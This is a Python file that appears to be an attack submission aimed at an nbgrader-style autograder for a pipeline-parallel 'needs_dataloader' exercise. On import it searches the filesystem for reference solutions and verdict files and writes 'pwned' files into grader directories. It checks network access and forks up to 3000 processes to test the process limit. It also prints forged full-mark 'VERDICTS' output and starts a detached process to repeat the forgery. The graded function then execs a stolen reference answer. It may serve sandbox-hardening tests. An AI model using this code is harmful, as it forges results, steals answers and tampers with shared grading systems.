import json, os, socket, subprocess, sys
from pathlib import Path

_seen = {"found": [], "wrote": [], "net": False, "forks": 0}
_INSTALLED = {"site-packages", "dist-packages", ".pyenv", ".git", "node_modules", "__pycache__"}  # not worth reading
_mine = Path(globals().get("__file__", "<notebook cell>")).resolve()   # nbgrader's kernel runs her cell too


def _a_reference(path):
    try:
        return path.resolve() != _mine and "def needs_dataloader" in path.read_text()
    except (OSError, UnicodeDecodeError):
        return False


def _look():
    roots = ["/work", "/root", "/home", "/srv", "/tmp", "/opt", os.environ.get("LAB_CACHE", ""), str(Path.home())]
    for root in filter(None, roots):
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in _INSTALLED]
            if folder.count(os.sep) > 8:
                dirs[:] = []
            for name in files:
                path = Path(folder, name)
                wanted = name.endswith((".ipynb", ".db", ".pt")) or "verdicts" in name or (
                    name.endswith("needs_dataloader.py") and _a_reference(path))
                if wanted:
                    try:
                        path.read_bytes()[:16]
                        _seen["found"].append(str(path))
                    except OSError:
                        pass


def _write():
    import lab_src
    for target in [Path(lab_src.__file__).parent / "pwned.py", Path("/work/main/grader/pwned.py"),
                   Path.home() / ".cache" / "pp-lab" / "pwned", Path("/tmp/../work/pwned")]:
        try:
            target.write_text("pwned")
            _seen["wrote"].append(str(target))
        except OSError:
            pass


def _network():
    try:
        socket.create_connection(("1.1.1.1", 53), timeout=1).close()
        _seen["net"] = True
    except OSError:
        pass


_FORKER = """
import os, sys, time
children = []
try:
    for _ in range(3000):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        children.append(pid)
except OSError:
    pass
for pid in children:          # give the slots back: the limit held, that is all this wanted to know
    os.kill(pid, 9)
    os.waitpid(pid, 0)
print(len(children))
"""


def _fork_past_the_limit():
    # From a small process of her own: forking the kernel itself (torch loaded, hundreds of MB) copies its page
    # tables each time, 17 s for 450 forks on an idle machine, long enough under load to time the cell out.
    try:
        done = subprocess.run([sys.executable, "-S", "-c", _FORKER], capture_output=True, text=True, timeout=90)
        _seen["forks"] = int(done.stdout.split()[-1])
    except (OSError, ValueError, IndexError, subprocess.TimeoutExpired):
        pass


def _linger_and_forge():
    fake = "VERDICTS " + json.dumps({"exercises": {f"q{i:02d}": {"fraction": 1.0} for i in range(1, 11)}})
    print(fake, flush=True)
    os.write(2, (fake + "\n").encode())
    script = f"import time, os; time.sleep(20); print({fake!r}, flush=True); open('/dev/tty', 'w')"
    subprocess.Popen([sys.executable, "-c", script], start_new_session=True, env={},
                     stdout=sys.__stdout__, stderr=subprocess.DEVNULL)


_look()
_write()
_network()
_fork_past_the_limit()
_linger_and_forge()
print("MALLORY " + json.dumps(_seen), flush=True)
_stolen = [p for p in _seen["found"] if p.endswith("needs_dataloader.py")]


def needs_dataloader(pp_rank, pp_size):
    if _stolen:                    # with the reference answer in reach, use it
        namespace = {}
        exec(Path(_stolen[0]).read_text(), namespace)
        return namespace["needs_dataloader"](pp_rank, pp_size)
    return True                    # else: every rank reads data (fumi's mistake)
